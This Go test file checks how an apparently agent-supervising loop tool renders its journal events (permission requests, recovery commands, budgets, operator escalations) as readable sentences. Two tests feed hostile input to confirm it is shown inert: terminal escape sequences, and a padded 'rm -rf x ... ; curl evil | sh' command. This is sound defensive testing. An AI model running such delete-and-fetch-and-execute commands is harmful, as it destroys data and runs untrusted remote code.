package render

import (
	"encoding/json"
	"go/ast"
	"go/parser"
	"go/token"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"unicode"

	"github.com/superloop/superloop/loop/journal"
)

// sentences has every event that the loop writes, with the fields that it
// writes, and what is to be read of it.
var sentences = []struct {
	event, fields, want string
}{
	{"loop_start", `{"plan":{"spec_file":"a.md"},"version":"1","pid":7,"spec_file":"a.md"}`, "loop started, spec a.md"},
	{"loop_resume", `{"status":"running","interrupted":"20260101T000000.000Z-ab/2/role:tester/1","killed":[5,6]}`,
		"loop resumed, tester was under way and starts again, 2 leftover processes ended"},
	{"loop_resume", `{"status":"paused"}`, "loop resumed"},
	{"loop_resume", `{"interrupted":"odd"}`, "loop resumed, odd was under way and starts again"},
	{"loop_complete", `{"status":"completed","reason":"promise_and_gates"}`, "loop completed (promise_and_gates)"},
	{"loop_stop", `{"status":"failed","reason":"role_failed","detail":"it broke"}`, "loop failed: it broke"},
	{"loop_stop", `{"status":"cancelled","reason":"user","by":"ann","note":"enough"}`, "loop cancelled (user) by ann: enough"},
	{"iteration_start", `{"started_at":"2026-01-01T00:00:00Z"}`, "iteration 3"},
	{"iteration_end", `{"duration_ms":65000,"completion":false}`, "iteration 3 ended after 1m05s"},
	{"iteration_reported", `{"summary":"promise=false tests=ok"}`, ""},
	{"role_start", `{"role":"planner","runner":"codex","attempt":1}`, "planner starts (codex)"},
	{"role_start", `{"role":"planner","runner":"codex","model":"big","attempt":2}`, "planner (attempt 2) starts (codex, big)"},
	{"role_end", `{"role":"planner","outcome":"ok","attempt":1,"duration_ms":12000,"output_file":"plan.md","output_status":"fresh"}`, "planner done in 12s"},
	{"role_end", `{"role":"planner","outcome":"ok","duration_ms":500,"output_file":"plan.md","output_status":"stale","left_behind":2,"log_dropped_bytes":2048}`,
		"planner done in 0.5s, but its plan.md is stale; 2 processes that it left behind were ended; 2.0 KiB of its output left out of the log"},
	{"role_timeout", `{"role":"tester","outcome":"inactive","timeout_ms":900000,"duration_ms":1000000}`, "tester gave no output for 15m00s and was ended"},
	{"role_timeout", `{"role":"tester","outcome":"timeout","duration_ms":7200000}`, "tester reached its time limit after 2h00m and was ended"},
	{"role_failed", `{"role":"tester","outcome":"exit","exit_code":3,"duration_ms":0}`, "tester failed with exit code 3 after 0.0s"},
	{"role_failed", `{"role":"tester","outcome":"signal","signal":"SIGKILL","duration_ms":0}`, "tester was ended by SIGKILL after 0.0s"},
	{"role_failed", `{"role":"tester","outcome":"not_started","error":"no such file","duration_ms":0}`, "tester could not be started: no such file after 0.0s"},
	{"role_failed", `{"role":"tester","outcome":"interrupted","duration_ms":0}`, "tester was interrupted after 0.0s"},
	{"role_failed", `{"role":"tester","outcome":"lost","error":"the supervisor died","duration_ms":0}`, "tester was lost: the supervisor died after 0.0s"},
	{"role_end", `{"role":"planner","outcome":"ok","attempt":1,"duration_ms":12000,"usage":{"input_tokens":20000,"output_tokens":345,"reasoning_output_tokens":45},"cost_usd":0.01234,"denied":2}`,
		"planner done in 12s, 20.3k tokens, $0.0123; 2 of its tool calls were denied by its own permissions"},
	{"role_failed", `{"role":"tester","outcome":"error","class":"auth","error":"401 invalid key","duration_ms":0}`, "tester failed (auth: 401 invalid key) after 0.0s"},
	{"rate_limit_wait", `{"role":"tester","runner":"c","limit":"rate_limited","source":"role","provider":"anthropic","text":"5 h","until":"2026-01-01T00:00:00Z"}`, ""},
	{"rate_limit_over", `{"role":"tester","provider":"anthropic","waited_ms":3500,"reason":"kicked","by":"ann"}`, "tester goes on after 3.5s, kicked by ann"},
	{"budget_reached", `{"limit":"max_cost_usd","role":"tester","spent":1.5,"max":1.6,"expected":0.2}`, "the budget does not cover the tester: $1.5000 of $1.60 are spent"},
	{"budget_reached", `{"limit":"max_tokens","role":"tester","spent":150000,"max":160000}`, "the budget does not cover the tester: 150.0k of 160.0k tokens are used"},
	{"recovery_escalated", `{"type":"runner_unavailable","reason":"auth","role":"tester","error":"no key","fix":"claude /login"}`,
		"waiting for an operator: the tester cannot run (auth): no key; claude /login, then: superloop kick --loop one"},
	{"recovery_resolved", `{"by":"ann","note":"logged in"}`, "repaired by ann: logged in"},
	{"permission_asked", `{"role":"implementer","tool":"Bash","command":"make deploy","verdict":"human","reason":"no list has it"}`, "the implementer asks to use Bash: make deploy; an operator decides: no list has it"},
	{"permission_asked", `{"role":"tester","tool":"Write","paths":["a","b"],"agent":"x","verdict":"deny","observed":true,"reason":"no"}`, "the tester (a sub-agent) asks to use Write: a, b; it would be refused: no"},
	{"permission_answered", `{"decision":"approved","by":"cli:ada"}`, "an operator allowed what the agent asked for by cli:ada"},
	{"permission_answered", `{"decision":"rejected","by":"cli:ada","note":"later"}`, "what the agent asked for is refused by cli:ada: later"},
	{"permission_answered", `{"decision":"wait_over"}`, "nobody answered the agent in time; the question waits on"},
	{"permission_answered", `{"decision":"granted","by":"cli:ada"}`, "the agent asked again for what an operator has allowed by cli:ada"},
	{"permission_answered", `{"decision":"superseded"}`, "the agent's question is withdrawn"},
	{"role_retry_wait", `{"role":"tester","attempt":1,"until":"2026-01-01T00:00:00Z"}`, ""},
	{"tests_start", `{"mode":"every","commands":["a","b"],"reason":"iteration"}`, "tests start (a; b)"},
	{"tests_rerun_start", `{"mode":"every","commands":["a"],"reason":"tree_changed"}`, "tests start (a), again: the tree changed after they ran"},
	{"tests_end", `{"status":"ok","exit_code":0,"duration_ms":1500}`, "tests passed in 1.5s"},
	{"tests_end", `{"status":"skipped","exit_code":0,"duration_ms":0}`, "tests skipped after 0.0s"},
	{"tests_rerun_end", `{"status":"failed","exit_code":2,"duration_ms":1500,"failed_command":"make"}`, "tests failed after 1.5s: `make` exited with 2"},
	{"tests_baseline", `{"status":"green","exit_code":0,"duration_ms":1500}`, "tests passed before the first role, in 1.5s"},
	{"tests_baseline", `{"status":"red","exit_code":2,"duration_ms":1500,"failed_command":"make"}`, "tests failed before the first role, after 1.5s: `make` exited with 2"},
	{"promise_checked", `{"expected":"DONE","text":"DONE","matched":true}`, "the promise was given"},
	{"promise_checked", `{"text":"DONE","matched":true,"tree_changed":true,"paths":["a.js","b\u001b[31m"]}`, `the promise was given; files changed since the tests began: a.js, b<U+001B>[31m`},
	{"final_start", `{"commit":"abc","commands":["npm ci","npm test"]}`, "tests start in a fresh checkout of abc (npm ci; npm test)"},
	{"final_end", `{"status":"ok","exit_code":0,"duration_ms":1500}`, "tests passed in the fresh checkout, in 1.5s"},
	{"final_end", `{"status":"failed","exit_code":2,"failed_command":"make"}`, "tests failed in the fresh checkout: `make` exited with 2"},
	{"final_end", `{"status":"failed","exit_code":0,"details":"HEAD has moved"}`, "tests failed in the fresh checkout: HEAD has moved"},
	{"tree_checked", `{"files":"f"}`, "no file has changed since the tests"},
	{"tree_checked", `{"files":"f","changed":true,"paths":["a.js"]}`, "files changed after the tests had run: a.js"},
	{"promise_checked", `{"expected":"DONE","text":"DONE?","matched":false}`, `a promise was given, but "DONE?" is not "DONE"`},
	{"promise_checked", `{"expected":"DONE","text":null,"matched":false}`, "no promise yet"},
	{"checklist_start", `{"enabled":true}`, ""},
	{"prerequisites_start", `{"enabled":true}`, ""},
	{"evidence_start", `{"enabled":true}`, ""},
	{"validation_start", `{"mode":"every","commands":["a"]}`, ""},
	{"checklist_end", `{"status":"failed","ok":false,"details":"2 open","duration_ms":1}`, "checklist failed: 2 open"},
	{"validation_end", `{"status":"ok","ok":true,"details":"3 ran","duration_ms":1}`, "validation ok"},
	{"prerequisites_end", `{"status":"ok","ok":true,"duration_ms":1}`, "prerequisites ok"},
	{"evidence_end", `{"status":"failed","ok":false,"duration_ms":1}`, "evidence failed"},
	{"stuck_checked", `{"changed":4,"streak":0,"threshold":3}`, "4 files changed"},
	{"stuck_checked", `{"changed":0,"streak":2,"threshold":3}`, "nothing changed, 2 of 3 iterations in a row"},
	{"gates_evaluated", `{"complete":true}`, "every gate passes"},
	{"gates_evaluated", `{"complete":false,"missing":["promise=false","tests=failed"]}`, "not complete yet: promise=false, tests=failed"},
	{"auto_commit_success", `{"sha":"0123456789abcdef","subject":"Mend it","strategy":"iteration"}`, "committed 012345678 Mend it"},
	{"auto_commit_success", `{"sha":"0123456789abcdef","subject":"Mend it","strategy":"iteration","left":["a.bin","b.bin"]}`,
		"committed 012345678 Mend it; left uncommitted, because only its filter (git-lfs) knows what git must store: a.bin, b.bin"},
	{"auto_commit_skipped", `{"strategy":"iteration","reason":"no_changes"}`, "commit skipped: no_changes"},
	{"auto_commit_failed", `{"strategy":"iteration","reason":"a hook said no"}`, "commit failed: a hook said no"},
	{"approval_requested", `{"approval_file":"approval.json"}`, "waiting for approval: superloop approve --loop one"},
	{"approval_decided", `{"status":"rejected","by":"ann","note":"no tests"}`, "rejected by ann: no tests"},
	{"wait_over", `{"id":"x/1/wait"}`, ""},
	{"moved_aside", `{"path":"a/state.json","to":"a/state.json.foreign-1"}`, "a/state.json was in superloop's way; it is kept as a/state.json.foreign-1"},
	{"submodule_damaged", `{"error":"the repository of the submodule lib is damaged: \u001b[2J; git fetch"}`,
		"the repository of the submodule lib is damaged: <U+001B>[2J; git fetch"},
	{"repository_healed", `{"did":"took HEAD back to 0123","kept_in":".git/superloop-damaged/1"}`,
		"the repository was damaged, as a power cut leaves it: took HEAD back to 0123; what was replaced is kept in .git/superloop-damaged/1"},
	{"journal_repaired", `{"cut_bytes":13,"kept_in":"events.jsonl.torn"}`, "the last line of events.jsonl was torn: 13 bytes cut, kept in events.jsonl.torn"},
	{"intent_ignored", `{"kind":"approve","by":"ann","reason":"nothing waited"}`, "approve by ann came when nothing waited"},
	{"loop_start", `{"spec_file":"a.md","protection":{"level":"mount"}}`, "loop started, spec a.md; its configuration is kept from the agents by mount"},
	{"loop_resume", `{"status":"paused","protection":{"level":"none","notes":["x"]}}`, "loop resumed; enforcement L0, nothing keeps the agents from its configuration (superloop doctor says why)"},
	{"role_end", `{"role":"tester","outcome":"ok","duration_ms":12000,"proposal":true}`, "tester done in 12s, with a proposal"},
	{"tests_rerun_start", `{"mode":"every","commands":["make"],"reason":"recovery"}`, "tests start (make), again: does the recovery help?"},
	{"recovery_seen", `{"role":"tester","category":"dependency","command":"npm ci","verdict":"auto"}`,
		"the tester, which still runs, is about to propose (dependency): npm ci; it may run, if it stays so"},
	{"recovery_proposed", `{"n":1,"source":"tester","role":"tester","category":"dependency","severity":"blocking","command":"npm ci","working_dir":".","confidence":"high","root_cause":"the lock file changed","verdict":"auto","rule":"auto_approve","reason":"it stands in auto_approve"}`,
		"recovery 1, by the tester (dependency, blocking, high confidence): npm ci, since the lock file changed; it may run: it stands in auto_approve"},
	{"recovery_proposed", `{"n":1,"source":"superloop","category":"config","command":"rm\nx","working_dir":"web","fallback":true,"verdict":"human","rule":"require_human","reason":"a pattern"}`,
		"recovery 1, its fallback: rm<newline>x (in web); an operator decides: a pattern"},
	{"recovery_proposed", `{"n":1,"role":"tester","command":"x","verdict":"auto","reason":"cooldown","not_before":"0001-01-01T00:00:00Z"}`, "recovery 1, by the tester: x; it may run: cooldown"},
	{"recovery_proposed", `{"n":1,"role":"tester","command":"x","verdict":"deny"}`, "recovery 1, by the tester: x; it is denied"},
	{"recovery_proposed", `{"n":1,"role":"tester","command":"x","verdict":"odd"}`, "recovery 1, by the tester: x; its verdict is odd"},
	{"recovery_approved", `{"n":1,"source":"auto","by":"rule","rule":"auto_approve","command":"npm ci"}`, "recovery 1 approved by the rule auto_approve"},
	{"recovery_approved", `{"n":1,"source":"human","by":"ann","rule":"require_human","command":"npm ci"}`, "recovery 1 approved by ann: npm ci"},
	{"recovery_executing", `{"n":1,"id":"x","source":"auto","command":"npm ci","working_dir":".","timeout_ms":300000,"network":"none","undo":"u1"}`,
		"recovery 1 runs npm ci, for at most 5m00s, without the network; superloop keeps what it replaces"},
	{"recovery_executing", `{"n":1,"id":"x","command":"npm ci","timeout_ms":1000,"network":"full","undo":"u1","undo_note":"node_modules is not kept: too large"}`,
		"recovery 1 runs npm ci, for at most 1.0s; node_modules is not kept: too large"},
	{"recovery_executed", `{"n":1,"id":"x","command":"npm ci","exit_code":0,"ended":"exited","duration_ms":700,"sandbox":{"level":"landlock+mount"},"left_behind":2,"appeared":[".git/hooks/x"]}`,
		"recovery 1 done in 0.7s; confined by landlock+mount; 2 processes that it left behind were ended; look at what appeared: .git/hooks/x"},
	{"recovery_failed", `{"n":1,"command":"npm ci","exit_code":1,"ended":"exited","duration_ms":700,"sandbox":{"level":"none"}}`, "recovery 1 exited with 1 after 0.7s; nothing confined it"},
	{"recovery_failed", `{"n":1,"command":"npm ci","exit_code":-1,"ended":"exited","signal":"SIGSEGV","duration_ms":700}`, "recovery 1 was ended by SIGSEGV after 0.7s"},
	{"recovery_failed", `{"n":1,"command":"npm ci","exit_code":-1,"ended":"timed_out","duration_ms":120000}`, "recovery 1 reached its time limit after 2m00s and was ended"},
	{"recovery_failed", `{"n":1,"command":"npm ci","ended":"output_limit","duration_ms":1000}`, "recovery 1 printed too much and was ended after 1.0s"},
	{"recovery_failed", `{"n":1,"command":"npm ci","ended":"killed","duration_ms":1000}`, "recovery 1 was ended after 1.0s, since superloop had to leave"},
	{"recovery_failed", `{"n":1,"command":"npm ci","ended":"not_started","error":"bash is not installed"}`, "recovery 1 could not be started: bash is not installed"},
	{"recovery_failed", `{"n":1,"command":"npm ci","ended":"lost"}`, "recovery 1 was lost: its outcome is unknown"},
	{"recovery_verified", `{"n":1,"result":"verified","before":"failed","after":"ok"}`, "recovery 1 is verified, the failure is gone"},
	{"recovery_verified", `{"n":1,"result":"ineffective","why":"make exits with 2 as before"}`, "recovery 1 is ineffective, the failure is the same: make exits with 2 as before"},
	{"recovery_verified", `{"n":1,"result":"harmful"}`, "recovery 1 is harmful, something that worked fails now"},
	{"recovery_verified", `{"n":1,"result":"unknown","why":"the loop has no tests"}`, "recovery 1 is not verified: the loop has no tests"},
	{"recovery_denied", `{"n":1,"command":"npm ci","rule":"on_unknown","reason":"no list names it"}`, "recovery 1 denied: npm ci; no list names it"},
	{"recovery_denied", `{"rule":"stale","reason":"it is of iteration 1"}`, "a proposal is set aside and not judged: it is of iteration 1"},
	{"recovery_invalid", `{"role":"tester","problems":[{"pointer":"/recovery/command","line":3,"column":2,"message":"missing"},{"pointer":"","message":"b"}]}`,
		"what the tester proposes is not usable: /recovery/command: missing (and 1 more)"},
	{"recovery_skipped", `{"role":"tester","command":"npm ci","rule":"nothing_failed","reason":"the tests pass"}`, "what the tester proposes is kept and not judged: npm ci; the tests pass"},
	{"operator_note", `{"text":"use the v2 API","by":"eve"}`, "note by eve for the roles: use the v2 API"},
	{"role_skipped", `{"role":"tester","reason":"unchanged","since":2}`, "tester is not started: the tests fail as in iteration 2, when it looked at them, and nothing has changed"},
	{"recovery_invalid", `{"reason":"it is a link"}`, "the proposal is not usable: it is a link"},
	{"recovery_escalated", `{"type":"recovery_approval_required","reason":"no list names it","rule":"on_unknown","awaiting":"human","escalation_id":"e","command":"npm ci","n":1}`,
		"waiting for an operator (recovery approval required): npm ci; no list names it; superloop approve-recovery --loop one"},
	{"recovery_resolved", `{"escalation_id":"e","by":"ann","method":"approve"}`, "approved by ann"},
	{"failure_classified", `{"source":"test_command","command":"npm test","category":"lock_held","handler":"git_lock","infra":true,"why":"A lock is left.","gate":"auto"}`,
		"why it failed: the environment, lock held (git_lock): A lock is left."},
	{"failure_classified", `{"source":"test_command","category":"code_bug","handler":"assertion","code":true,"why":"An assertion fails."}`,
		"why it failed: the code, code bug (assertion): An assertion fails."},
	{"failure_classified", `{"source":"test_command","category":"unknown"}`, "why it failed: not known to rules, unknown"},
	{"failure_detected", `{"role":"planner","kind":"exit","counted":true,"failures":1,"error":"exit code 3\u001b[2J","rung":"reassign"}`,
		"failure 1 of the planner (exit): exit code 3<U+001B>[2J; another runner takes it"},
	{"role_failed", `{"role":"planner","attempt":1,"outcome":"unfit","exit_code":0,"duration_ms":1000,"error":"its report is missing"}`,
		"planner succeeded but did not leave the required result (its report is missing) after 1.0s"},
	{"failure_detected", `{"role":"planner","kind":"overloaded","error":"529","rung":"wait"}`, "the planner has failed (overloaded): 529; no runner can take it now"},
	{"failure_detected", `{"role":"planner","kind":"exit","counted":true,"failures":3,"error":"x","rung":"escalate"}`, "failure 3 of the planner (exit): x; an operator is asked"},
	{"runner_reassigned", `{"role":"planner","from":"claude (anthropic)","to":"codex (openai)"}`, "the planner goes from claude (anthropic) to codex (openai)"},
	{"runner_tripped", `{"runner":"claude","reason":"no login"}`, "runner claude is unfit: no login; until an operator has repaired it"},
	{"root_cause_analysed", `{"type":"code","root_cause":"a nil map","location":"store.go:41","by":"rules","confidence":0.8,"sure":true}`,
		"the cause, by rules: a nil map (store.go:41); code, confidence 0.8"},
	{"root_cause_analysed", `{"type":"unknown","by":"rules","root_cause":"no rule knows"}`, "the cause, by rules: not found"},
	{"root_cause_analysed", `{"type":"code","root_cause":"a nil map","by":"rules","confidence":0.4}`, "the cause, by rules: possibly: a nil map; code, confidence 0.4"},
	{"prevention_added", `{"id":"d-1","check":"dependency_sync","reason":"not in step","loop":"l"}`,
		"new check before the iteration: dependency sync, because not in step (superloop doctor --retire d-1 takes it back)"},
	{"prevention_added", `{"id":"t-1","check":"tool","reason":"no jq","loop":"l","for_role":"tester","for_runners":["a","b"]}`,
		"new check before the tester runs by a, b: tool, because no jq (superloop doctor --retire t-1 takes it back)"},
	{"prevention_retired", `{"id":"t-1","reason":"it works without"}`, "check t-1 was wrong and is not made any more: it works without"},
	{"preflight_failed", `{"role":"planner","why":"not in step","action":"recover","command":{"command":"npm ci"}}`,
		"the planner is not started, nothing is spent: not in step; remedy: npm ci"},
	{"systemic_alert", `{"trigger":"failure_rate","severity":"critical","runs":10,"failures":7}`, "critical: 7 of 10 role runs have failed"},
	{"systemic_alert", `{"trigger":"same_category","severity":"investigate","failures":6,"category":"disk_full"}`, "investigate: 6 failures of one kind: disk full"},
	{"recovery_escalated", `{"type":"role_failure","reason":"too_often","role":"planner","error":"three failures"}`,
		"waiting for an operator (role failure, planner): three failures; superloop inbox shows all of it"},
	{"leftovers_ended", `{"pids":[4711],"port":"3000","of_runs":["r"]}`, "a port is in use: superloop ended what earlier runs left behind (processes [4711])"},
	{"chain_opened", `{"chain_id":"c","depth":1,"label":"npm test","status":"executing"}`, "automatic remediation for npm test begins"},
	{"chain_pushed", `{"chain_id":"c","depth":2,"label":"npm ci","status":"executing"}`, "level 2: first npm ci"},
	{"chain_popped", `{"chain_id":"c","depth":2,"label":"npm ci","status":"done"}`, "level 2 is done: npm ci"},
	{"chain_closed", `{"chain_id":"c","depth":1,"label":"npm test","status":"done","attempts":1}`, "automatic remediation helped after 1 command: npm test passes"},
	{"chain_closed", `{"chain_id":"c","status":"exhausted","why":"nothing is left","attempts":2}`, "automatic remediation did not help after 2 commands: nothing is left"},
	{"chain_closed", `{"chain_id":"c","status":"cancelled","why":"it made it worse","attempts":2}`, "automatic remediation ends after 2 commands: it made it worse"},
	{"tool_verified", `{"tool":"jq","result":"works","exit_code":0,"broken":false}`, "jq was installed and works"},
	{"tool_verified", `{"tool":"jq","result":"skipped","exit_code":0,"broken":false,"why":"there is no check"}`, "jq was installed, and is not looked at: there is no check"},
	{"effect_lost", `{"effect_id":"r/1/tests","reason":"the worker is gone"}`, "the outcome of a step is unknown: the worker is gone"},
	{"verify_self_repaired", `{"tool":"jq","original":"jq --version","repaired":"jq --version","method":"output_detection","exit_code":2,"time_saved_ms":4900}`,
		"jq works: its check jq --version is wrong, and what it prints with exit code 2 shows it"},
	{"verify_self_repaired", `{"tool":"jq","original":"jq --version","repaired":"jq -h","method":"fallback_h","exit_code":0,"time_saved_ms":4900}`,
		"jq works: its check jq --version is wrong, jq -h with exit code 0 shows it"},
	{"verify_self_repair_failed", `{"tool":"jq","original":"jq --version","exit_code":127,"broken":true,"why":"a shared library is missing: libjq.so\u001b[2J"}`,
		"jq was installed and is broken: jq --version: a shared library is missing: libjq.so<U+001B>[2J"},
	{"verify_self_repair_failed", `{"tool":"jq","original":"jq --version","exit_code":3,"broken":false,"why":"exit code 3 instead of 0"}`,
		"jq was installed, and nothing shows that it works: jq --version: exit code 3 instead of 0"},
	{"recovery_resolved", `{"escalation_id":"e","by":"ann","method":"reject","note":"not on this machine"}`, "rejected by ann: not on this machine"},
	{"config_reloaded", `{"changes":[{"path":"/a","from":1,"to":2},{"path":"/b"},{"path":"/c"},{"path":"/d"},{"path":"/e"}],"digest":"d","during":"tester"}`,
		"the configuration was read again, while the tester ran: /a, /b, /c, /d and 1 more"},
	{"config_loaded", `{"file":".superloop/config.json","digest":"d","protection":"none","protection_notes":["x"],"warnings":[{"pointer":"/recovery/auto_approve/0","code":"c","message":"overlap"},{"message":"b"}]}`,
		"configuration .superloop/config.json; enforcement L0, nothing keeps the agents from it (superloop doctor says why); 2 warnings"},
	{"notification_sent", `{"notifier":"ops","attempt":1,"kind":"escalation_opened"}`, "message sent by ops (opened)"},
	{"notification_failed", `{"notifier":"ops","attempt":3,"kind":"reminder","reason":"503"}`, "ops did not accept the message (reminder): 503; superloop tries again"},
	{"notification_failed", `{"notifier":"ops","attempt":100,"kind":"reminder","reason":"503","final":true}`, "ops did not accept the message (reminder): 503; superloop gives up"},
	{"escalation_damaged", `{"error":"cut in half"}`, "the record of the question was damaged, superloop asks again: cut in half"},
	{"config_loaded", `{"file":"c.json","protection":"mount"}`, "configuration c.json; it is kept from the agents by mount"},
	{"config_warning", `{"problems":[{"pointer":"","message":"the pin is damaged"}]}`, "the configuration: the pin is damaged"},
	{"config_rejected", `{"problems":[{"pointer":"/loops","message":"missing"}]}`, "the changed configuration is rejected, the previous one stays in force: /loops: missing"},
	{"config_change_held", `{"diff":{"tightening":[],"loosening":[{"path":"/recovery/auto_approve","to":"x"}]},"digest":"0123456789abcdef"}`,
		"a change of the configuration is held, because it allows more than an operator has trusted: /recovery/auto_approve; if it is yours: superloop config trust --digest 01234567"},
}

func eventOf(name, fields string) journal.Event {
	return journal.Event{Event: name, LoopID: "one", RunID: "r", Iteration: 3, Fields: json.RawMessage(fields)}
}

func TestDescribeSaysEveryEventInASentence(t *testing.T) {
	t.Parallel()
	for _, tt := range sentences {
		t.Run(tt.event, func(t *testing.T) {
			t.Parallel()
			got := Describe(eventOf(tt.event, tt.fields))
			if tt.want != "" && got != tt.want {
				t.Errorf("got  %q\nwant %q", got, tt.want)
			}
			if got == "" || strings.Contains(got, tt.event) || strings.ContainsAny(got, "{}") {
				t.Errorf("%q is no sentence", got)
			}
		})
	}
}

// The names are read off the source, so that an event that somebody adds is
// missed here and not by a reader.
func TestSentencesHasEveryEventOfTheLoop(t *testing.T) {
	t.Parallel()
	names := eventsInSource(t)
	for _, anchor := range []string{"loop_start", "wait_over", "gates_evaluated", "evidence_start", "loop_complete", "journal_repaired"} {
		if !names[anchor] {
			t.Fatalf("the source was not read: %s is not among %v", anchor, names)
		}
	}
	for _, s := range sentences {
		delete(names, s.event)
	}
	for name := range names {
		t.Errorf("%s has no line in the table", name)
	}
}

// eventsInSource are the keys of loop.inputs, those that note and
// record are given, and those assigned to a variable named event.
func eventsInSource(t *testing.T) map[string]bool {
	t.Helper()
	names := map[string]bool{}
	add := func(e ast.Expr) {
		if lit, ok := e.(*ast.BasicLit); ok && lit.Kind == token.STRING {
			name, err := strconv.Unquote(lit.Value)
			if err != nil {
				t.Fatal(err)
			}
			names[name] = true
		}
	}
	var files []string
	for _, dir := range []string{"loop", "loop/local", "loop/effects"} {
		found, err := filepath.Glob("../../../../" + dir + "/*.go")
		if err != nil {
			t.Fatal(err)
		}
		files = append(files, found...)
	}
	for _, path := range files {
		if strings.HasSuffix(path, "_test.go") {
			continue
		}
		file, err := parser.ParseFile(token.NewFileSet(), path, nil, 0)
		if err != nil {
			t.Fatal(err)
		}
		for _, decl := range file.Decls {
			ast.Inspect(decl, func(n ast.Node) bool {
				switch n := n.(type) {
				case *ast.ValueSpec:
					if n.Names[0].Name == "inputs" {
						for _, e := range n.Values[0].(*ast.CompositeLit).Elts {
							add(e.(*ast.KeyValueExpr).Key)
						}
					}
				case *ast.AssignStmt:
					if id, ok := n.Lhs[0].(*ast.Ident); ok && id.Name == "event" {
						add(n.Rhs[0])
					}
				case *ast.CallExpr:
					sel, ok := n.Fun.(*ast.SelectorExpr)
					switch {
					case !ok || len(n.Args) == 0:
					case sel.Sel.Name == "note" || sel.Sel.Name == "record" || sel.Sel.Name == "Record":
						add(n.Args[0])
					case sel.Sel.Name == "gate" && len(n.Args) == 3:
						if lit, ok := n.Args[2].(*ast.BasicLit); ok {
							names[strings.Trim(lit.Value, `"`)+"_start"] = true
						}
					}
				}
				return true
			})
		}
	}
	return names
}

func TestDescribeOfWhatItDoesNotKnow(t *testing.T) {
	t.Parallel()
	if got, want := Describe(eventOf("new_thing", `{"a":1}`)), `new_thing {"a":1}`; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
	// a field of another type leaves the rest
	if got, want := Describe(eventOf("role_start", `{"role":"planner","attempt":"x","runner":"codex"}`)), "planner starts (codex)"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
	if got, want := Describe(journal.Event{Event: "new_thing"}), "new_thing "; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

// Whatever an agent or an operator put into a field, a terminal gets no control
// character.
func TestDescribeIsSafeForATerminal(t *testing.T) {
	t.Parallel()
	evil := "a\x1b]0;t\x07\n\u202eb"
	for _, tt := range sentences {
		var m map[string]any
		if err := json.Unmarshal([]byte(tt.fields), &m); err != nil {
			t.Fatal(err)
		}
		for key, value := range m {
			if _, ok := value.(string); ok && key != "until" && key != "started_at" && key != "outcome" && key != "status" && key != "not_before" {
				m[key] = evil
			}
		}
		fields, err := json.Marshal(m)
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range Describe(eventOf(tt.event, string(fields))) {
			if unicode.IsControl(r) || unicode.Is(unicode.Cf, r) {
				t.Errorf("%s: %U got through", tt.event, r)
			}
		}
	}
}

// A command that is long or strange is shown for what it is, and its end is
// missing visibly.
func TestDescribeShowsCommandsInert(t *testing.T) {
	t.Parallel()
	fields, err := json.Marshal(map[string]any{"command": "rm -rf x\u202e\u200b  \u00a0" + strings.Repeat(" ", 5000) + "; curl evil | sh", "source": "human", "by": "ann"})
	if err != nil {
		t.Fatal(err)
	}
	got := Describe(eventOf("recovery_approved", string(fields)))
	for _, want := range []string{"<U+202E>", "<U+200B>", "<U+00A0>", "evil"} {
		if !strings.Contains(got, want) {
			t.Errorf("there is no %s in %q", want, got)
		}
	}
	long := Describe(eventOf("recovery_approved", `{"source":"human","by":"ann","command":"`+strings.Repeat("true; ", 200)+`"}`))
	if !strings.HasSuffix(long, "...") || len(long) > 220 {
		t.Errorf("a long command is %q", long)
	}
}

func TestQuietAndRole(t *testing.T) {
	t.Parallel()
	for name, want := range map[string]bool{"evidence_start": true, "wait_over": true, "iteration_end": true,
		"role_start": false, "loop_stop": false, "journal_repaired": false, "new_thing": false} {
		if Quiet(name) != want {
			t.Errorf("Quiet(%s) is %t", name, !want)
		}
	}
	for fields, want := range map[string]string{`{"role":"tester"}`: "tester", `{}`: "", ``: "", `{"role":4}`: ""} {
		if got := Role(eventOf("role_start", fields)); got != want {
			t.Errorf("Role of %s is %q, want %q", fields, got, want)
		}
	}
}
